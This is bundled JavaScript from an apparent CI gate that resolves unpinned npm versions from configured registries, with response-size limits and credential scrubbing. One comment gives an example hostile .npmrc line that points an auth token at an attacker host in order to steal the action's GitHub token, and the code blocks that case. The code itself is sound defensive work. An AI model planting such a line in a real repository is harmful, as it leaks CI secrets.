export const id = 7;
export const ids = [7];
export const modules = {

/***/ 70007:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  xl: () => (/* binding */ auditResolveHook),
  S_: () => (/* reexport */ createNpmResolver),
  l5: () => (/* reexport */ normalizeRegistry)
});

// UNUSED EXPORTS: registryRequest

// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
var npa = __webpack_require__(78056);
var npa_default = /*#__PURE__*/__webpack_require__.n(npa);
// EXTERNAL MODULE: ./node_modules/semver/index.js
var semver = __webpack_require__(62088);
var semver_default = /*#__PURE__*/__webpack_require__.n(semver);
// EXTERNAL MODULE: ./src/util/purl.ts
var purl = __webpack_require__(64059);
// EXTERNAL MODULE: ./src/model/limits.ts
var limits = __webpack_require__(10817);
;// CONCATENATED MODULE: ./src/resolver/limited-agent.ts
const RESPONSE_TOO_LARGE = 'ERESPONSETOOLARGE';
const COUNT = Symbol('aitg.bytesThisResponse');
/** An agent for one registry URL that refuses answers over `maxBytes` (headers included). */
async function limitedAgent(registry, maxBytes, timeoutMs) {
    const { Agent } = (await Promise.all(/* import() */[__webpack_require__.e(799), __webpack_require__.e(995)]).then(__webpack_require__.t.bind(__webpack_require__, 57995, 23)));
    const { getProxy } = (await __webpack_require__.e(/* import() */ 799).then(__webpack_require__.t.bind(__webpack_require__, 3799, 23)));
    class BodyLimitedAgent extends Agent {
        async connect(request, options) {
            const socket = (await super.connect(request, options));
            socket[COUNT] = 0;
            // The HTTP parser reads the socket in flowing mode already; one more listener only counts.
            socket.on('data', (chunk) => {
                const seen = (socket[COUNT] ?? 0) + chunk.length;
                socket[COUNT] = seen;
                if (seen > maxBytes) {
                    socket.destroy(Object.assign(new Error(`response over the limit of ${maxBytes} bytes`), {
                        code: RESPONSE_TOO_LARGE,
                    }));
                }
            });
            return socket;
        }
        addRequest(request, options) {
            // A kept-alive socket starts each response at zero.
            request.once('socket', (s) => {
                s[COUNT] = 0;
            });
            super.addRequest(request, options);
        }
    }
    return new BodyLimitedAgent({ timeout: timeoutMs, proxy: getProxy(registry, {}) ?? undefined });
}

;// CONCATENATED MODULE: ./src/resolver/manifest.ts
// The manifest an install of a registry spec would pick, with npm's own pieces for exactly this:
// npm-registry-fetch fetches the packument (auth, proxies and headers as npm sends them) and
// npm-pick-manifest picks the version (dist-tags, ranges, the `latest` preference). No tarball is
// ever fetched, nothing is written to disk, no script can run.

/** The abbreviated ("corgi") packument, with the full document as npm's fallback. */
const CORGI_DOC = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
const FULL_DOC = 'application/json';
// Loaded on the first look-up only: runs that never ask a registry do not pay for them.
let modules = null;
const load = () => (modules ??= Promise.all([Promise.all(/* import() */[__webpack_require__.e(799), __webpack_require__.e(706)]).then(__webpack_require__.t.bind(__webpack_require__, 5706, 23)), __webpack_require__.e(/* import() */ 937).then(__webpack_require__.t.bind(__webpack_require__, 81937, 23))]).then(([f, p]) => ({
    fetch: f.default,
    pick: p.default,
})));
/**
 * The version `spec` (`name@tag-or-range`) resolves to. Throws what npm throws: `E404`/`E401`/…
 * with `statusCode` for HTTP errors, `ETARGET` when no version matches, `type: 'invalid-json'`.
 */
async function pickedVersion(spec, options) {
    const { fetch, pick } = await load();
    const parsed = npa_default()(spec);
    const name = parsed.name ?? '';
    const url = `${options.registry.replace(/\/+$/, '')}/${parsed.escapedName ?? ''}`;
    const get = async (accept) => {
        const res = await fetch(url, {
            ...options.fetchOptions,
            registry: options.registry,
            spec: parsed,
            headers: { accept },
            integrity: null,
        });
        return res.json();
    };
    const key = `${name}\0${url}`;
    let packument = options.packumentCache.get(key);
    if (!packument) {
        // A registry that does not serve abbreviated documents answers 404 to them: ask for the full one.
        packument = get(CORGI_DOC).catch((e) => {
            if (e.code === 'E404')
                return get(FULL_DOC);
            throw e;
        });
        options.packumentCache.set(key, packument);
        // A failed request is not remembered: the caller decides whether to retry.
        packument.catch(() => options.packumentCache.delete(key));
    }
    return pick(await packument, parsed.fetchSpec ?? 'latest', { defaultTag: 'latest' }).version;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
// a pull request could use.


const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
/** `.npmrc` files are small; a larger one is not a config file. */
const MAX_NPMRC_BYTES = 256 * 1024;
/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
/**
 * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
 * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
 * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
 * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
 */
const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
function parseNpmrc(text) {
    const entries = [];
    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
    for (let i = 0; i < lines.length; i++) {
        const line = lines[i].trim();
        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
            continue;
        const eq = line.indexOf('=');
        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
            try {
                const parsed = JSON.parse(value);
                if (typeof parsed === 'string')
                    value = parsed;
            }
            catch {
                value = value.slice(1, -1);
            }
        }
        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
            value = value.slice(1, -1);
        }
        if (key !== '')
            entries.push({ key, value, line: i + 1 });
    }
    return entries;
}
/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
function expand(value, env, project) {
    let missing = null;
    let forbidden = null;
    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
        if (esc.length % 2 === 1)
            return whole.slice(1);
        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
            forbidden ??= name;
            return '';
        }
        const v = env[name];
        if (v === undefined) {
            if (!optional)
                missing ??= name;
            return esc;
        }
        return esc + v;
    });
    if (forbidden !== null)
        return { forbidden };
    if (missing !== null)
        return { missing };
    return { value: out };
}
/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
function normalizeRegistry(raw) {
    let url;
    try {
        url = new URL(raw.trim());
    }
    catch {
        return null;
    }
    if (url.protocol !== 'http:' && url.protocol !== 'https:')
        return null;
    url.hash = '';
    url.search = '';
    if (!url.pathname.endsWith('/'))
        url.pathname += '/';
    return url.toString();
}
/** A registry URL fit for messages: no credentials, query or fragment. */
function displayRegistry(registry) {
    try {
        const url = new URL(registry);
        url.username = '';
        url.password = '';
        url.search = '';
        url.hash = '';
        return url.toString();
    }
    catch {
        return '(invalid registry URL)';
    }
}
function readOptional(path) {
    try {
        const buf = (0,external_node_fs_.readFileSync)(path);
        if (buf.length > MAX_NPMRC_BYTES)
            return null;
        return buf.toString('utf8');
    }
    catch {
        return null;
    }
}
function envValue(env, name) {
    const lower = name.toLowerCase();
    for (const [k, v] of Object.entries(env))
        if (k.toLowerCase() === lower && v !== undefined)
            return v;
    return undefined;
}
/**
 * Reads the npm configuration that decides where packages are looked up, in npm's order of
 * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
 * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
 * Never reads the machine's home directory unless `env` names it.
 */
function loadNpmConfig(options) {
    const { env } = options;
    const errors = [];
    const secrets = [];
    const scopes = new Map();
    const auth = new Map();
    let registry = null;
    const userPath = envValue(env, 'npm_config_userconfig') ??
        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
    // Lowest precedence first; later layers overwrite.
    const layers = [
        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
        { text: projectText, project: true, file: '.npmrc' },
    ];
    for (const layer of layers) {
        if (layer.text === null)
            continue;
        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
            if (!isRegistry && !authKey)
                continue;
            const expanded = expand(raw, env, layer.project);
            if ('forbidden' in expanded) {
                // Only the repository's own file can be hostile; report it so the gate fails closed.
                errors.push({
                    file: layer.file,
                    line,
                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
                });
                continue;
            }
            if ('missing' in expanded)
                continue; // npm would send the literal text; sending nothing is safer
            const value = expanded.value;
            if (isRegistry) {
                const url = normalizeRegistry(value);
                if (url === null) {
                    if (layer.project)
                        errors.push({
                            file: layer.file,
                            line,
                            message: `${key} is not an http(s) URL; the setting is ignored`,
                        });
                    continue;
                }
                if (key === 'registry')
                    registry = url;
                else {
                    const scope = key.slice(0, -':registry'.length).toLowerCase();
                    if (SCOPE.test(scope))
                        scopes.set(scope, url);
                }
            }
            else if (authKey && value !== '') {
                auth.set(key, value);
                secrets.push(value);
                if (authKey === '_auth')
                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
                if (authKey === '_password')
                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
            }
        }
    }
    for (const [k, v] of Object.entries(env)) {
        if (v === undefined)
            continue;
        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
        if (m && SCOPE.test(m[1])) {
            const url = normalizeRegistry(v);
            if (url)
                scopes.set(m[1].toLowerCase(), url);
        }
    }
    const envRegistry = envValue(env, 'npm_config_registry');
    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
        registry = normalizeRegistry(envRegistry);
    if (options.registry !== undefined) {
        const url = normalizeRegistry(options.registry);
        if (url === null)
            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
        registry = url;
    }
    for (const url of [registry, ...scopes.values()]) {
        if (!url)
            continue;
        const u = new URL(url);
        if (u.password)
            secrets.push(decodeURIComponent(u.password));
    }
    return {
        registry: registry ?? PUBLIC_REGISTRY,
        scopes,
        auth,
        secrets: secrets.filter((s) => s.length >= 4),
        errors,
    };
}
/** The registry a package name is looked up in. */
function registryFor(config, name) {
    if (name.startsWith('@')) {
        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
        const url = config.scopes.get(scope);
        if (url)
            return url;
    }
    return config.registry;
}
/** Replaces every known credential in a message (defence in depth: messages are built without them). */
function scrub(message, secrets) {
    let out = message;
    for (const s of secrets)
        if (out.includes(s))
            out = out.split(s).join('***');
    return out;
}

;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
// would get now, by asking the registry the repository is configured for, the way npm does
// (npm-registry-fetch for the packument, npm-pick-manifest for dist-tags, ranges and the `latest`
// preference).







const OFFLINE_NOTE = 'offline: not resolved';
/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
const UNREACHABLE_AFTER = 3;
const MAX_VERSION_LENGTH = 256;
/**
 * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
 * null when the component is not the resolver's (pinned, not npm, not from a registry).
 */
function registryRequest(c) {
    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
        return null;
    let written = (c.spec ?? '').trim();
    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
    if (written.startsWith('npm:')) {
        try {
            const alias = npa_default()(written);
            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
                written = alias.subSpec.rawSpec;
        }
        catch {
            return { reason: `spec "${c.spec}" is not a valid npm alias` };
        }
    }
    const spec = written === '' ? 'latest' : written;
    let parsed;
    try {
        parsed = npa_default().resolve(c.name, spec);
    }
    catch {
        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
    }
    // Only registry specs: anything else (git, file, URL) is not a registry look-up.
    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
    }
    return { name: c.name, spec };
}
/** Runs tasks with at most `limit` in flight. */
function limiter(limit) {
    let active = 0;
    const queue = [];
    const next = () => {
        if (active >= limit)
            return;
        const start = queue.shift();
        if (start) {
            active++;
            start();
        }
    };
    return (task) => new Promise((resolve, reject) => {
        queue.push(() => {
            task()
                .then(resolve, reject)
                .finally(() => {
                active--;
                next();
            });
        });
        next();
    });
}
function failureOf(e) {
    return typeof e === 'object' && e !== null ? e : {};
}
/** No HTTP answer at all: a timeout or a network error. */
function isUnanswered(f, timedOut) {
    if (timedOut || f.type === 'request-timeout')
        return true;
    if (f.statusCode !== undefined || f.type === 'invalid-json')
        return false;
    return (typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403', RESPONSE_TOO_LARGE].includes(f.code));
}
function isRetryable(f, timedOut) {
    if (timedOut)
        return true;
    if (f.statusCode !== undefined)
        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
        return false;
    if (f.type === 'invalid-json' || f.code === RESPONSE_TOO_LARGE)
        return false;
    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
    return typeof f.code === 'string' && f.code.startsWith('E');
}
/** Why a look-up failed, in words that never carry the request's credentials. */
function describe(f, timedOut, req, where, attempts, timeoutMs, maxBytes) {
    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
    if (timedOut || f.type === 'request-timeout')
        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
    if (f.code === 'ETARGET')
        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
    if (f.code === 'E404' || f.statusCode === 404)
        return `${req.name} not found at ${where} (HTTP 404)`;
    if (f.statusCode === 401 || f.statusCode === 403)
        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
    if (f.code === RESPONSE_TOO_LARGE)
        return `${where} answered ${req.name} with more than ${maxBytes} bytes (AITG_MAX_RESPONSE_BYTES)`;
    if (f.type === 'invalid-json')
        return `${where} answered ${req.name} with invalid JSON`;
    if (f.statusCode !== undefined)
        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
        return `network error ${f.code} reaching ${where} (${tries})`;
    return `look-up of ${req.name} at ${where} failed (${tries})`;
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
/**
 * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver (its
 * caches and the registry settings last across calls: an audit calls it file by file); failures
 * never throw: the component keeps `version: null` and `versionNote` says why.
 */
function createNpmResolver(options) {
    const concurrency = Math.max(1, options.concurrency ?? 8);
    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
    const retries = Math.max(0, options.retries ?? 2);
    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
    const maxResponseBytes = Math.max(1, options.maxResponseBytes ?? (0,limits/* maxResponseBytesFromEnv */.Yb)(options.env));
    const limit = limiter(concurrency);
    // One packument request per package per resolver (a run): specs of one package are looked up one after
    // the other, the first fills the in-memory packument cache and the rest read it; when
    // the first fails for a reason that is about the package, the rest share that reason.
    const packumentCache = new Map();
    const lookups = new Map();
    const lastOfPackage = new Map();
    // A registry that answers nothing (down, blackholed) would cost every package the full
    // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
    const unanswered = new Map();
    // One size-bounded agent per registry (keep-alive within a run, proxies from the environment).
    const agents = new Map();
    const agentFor = (registry) => {
        let a = agents.get(registry);
        if (!a)
            agents.set(registry, (a = limitedAgent(registry, maxResponseBytes, timeoutMs)));
        return a;
    };
    // The registry settings, read once, on the first look-up; their errors are reported once.
    let config;
    return async (components) => {
        const wanted = components.map(registryRequest);
        if (!wanted.some((w) => w !== null)) {
            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
        }
        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
        let errors = [];
        if (config === undefined) {
            config = options.offline
                ? null
                : loadNpmConfig({
                    root: options.root,
                    env: options.env,
                    ...(options.registry !== undefined ? { registry: options.registry } : {}),
                    ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
                });
            errors = config?.errors ?? [];
        }
        const settings = config;
        const lookUp = async (cfg, req) => {
            const registry = registryFor(cfg, req.name);
            const agent = await agentFor(registry);
            const where = displayRegistry(registry);
            const spec = npa_default().resolve(req.name, req.spec).toString();
            const down = unanswered.get(registry);
            if (down && down.inARow >= UNREACHABLE_AFTER) {
                return {
                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
                    byPackage: true,
                };
            }
            let attempt = 0;
            for (;;) {
                attempt++;
                stats.attempts++;
                const controller = new AbortController();
                let timedOut = false;
                const timer = setTimeout(() => {
                    timedOut = true;
                    controller.abort();
                }, timeoutMs);
                try {
                    const fetchOptions = {
                        preferOnline: true,
                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
                        fetchRetries: 0,
                        timeout: timeoutMs,
                        signal: controller.signal,
                        userAgent: 'ai-tooling-gate',
                        agent,
                    };
                    for (const [k, v] of cfg.auth)
                        fetchOptions[k] = v;
                    // The signal aborts the request; the race makes sure nothing waits past the timeout
                    // even if some layer below does not honour it.
                    const found = await Promise.race([
                        pickedVersion(spec, { registry, packumentCache, fetchOptions }),
                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
                    ]);
                    unanswered.delete(registry);
                    const version = typeof found === 'string' ? found : '';
                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
                        return { reason: `${where} answered ${req.name} with an invalid version` };
                    }
                    return { version, registry: where };
                }
                catch (e) {
                    const f = failureOf(e);
                    if (attempt <= retries && isRetryable(f, timedOut)) {
                        clearTimeout(timer);
                        await sleep(retryDelayMs * 2 ** (attempt - 1));
                        continue;
                    }
                    const reason = describe(f, timedOut, req, where, attempt, timeoutMs, maxResponseBytes);
                    if (isUnanswered(f, timedOut)) {
                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
                        unanswered.set(registry, { inARow, last: reason });
                    }
                    else
                        unanswered.delete(registry);
                    return { reason, byPackage: f.code !== 'ETARGET' };
                }
                finally {
                    clearTimeout(timer);
                }
            }
        };
        const outcomes = await Promise.all(wanted.map((w) => {
            if (w === null)
                return Promise.resolve(null);
            if ('reason' in w)
                return Promise.resolve(w);
            if (settings === null)
                return Promise.resolve({ reason: OFFLINE_NOTE });
            const key = `${w.name}@${w.spec}`;
            let p = lookups.get(key);
            if (!p) {
                const cfg = settings;
                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
                p = previous.then((before) => {
                    if (before && 'reason' in before && before.byPackage)
                        return before;
                    stats.lookups++;
                    return limit(() => lookUp(cfg, w)).catch((e) => ({
                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
                    }));
                });
                lookups.set(key, p);
                lastOfPackage.set(w.name, p);
            }
            return p;
        }));
        const secrets = settings?.secrets ?? [];
        const out = components.map((c, i) => {
            const outcome = outcomes[i];
            const w = wanted[i];
            if (!outcome || !w)
                return c;
            if ('version' in outcome && !('reason' in w)) {
                stats.resolved++;
                return {
                    ...c,
                    version: outcome.version,
                    purl: (0,purl/* purlFor */.n)(c.ecosystem, c.name, outcome.version),
                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
                };
            }
            stats.unresolved++;
            const reason = 'reason' in outcome ? outcome.reason : '';
            return {
                ...c,
                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
            };
        });
        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
    };
}

;// CONCATENATED MODULE: ./src/resolver/index.ts


/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
function auditResolveHook(resolver) {
    return async (components, errors) => {
        const result = await resolver(components);
        if (result.errors)
            errors.push(...result.errors);
        return result.components;
    };
}


/***/ })

};
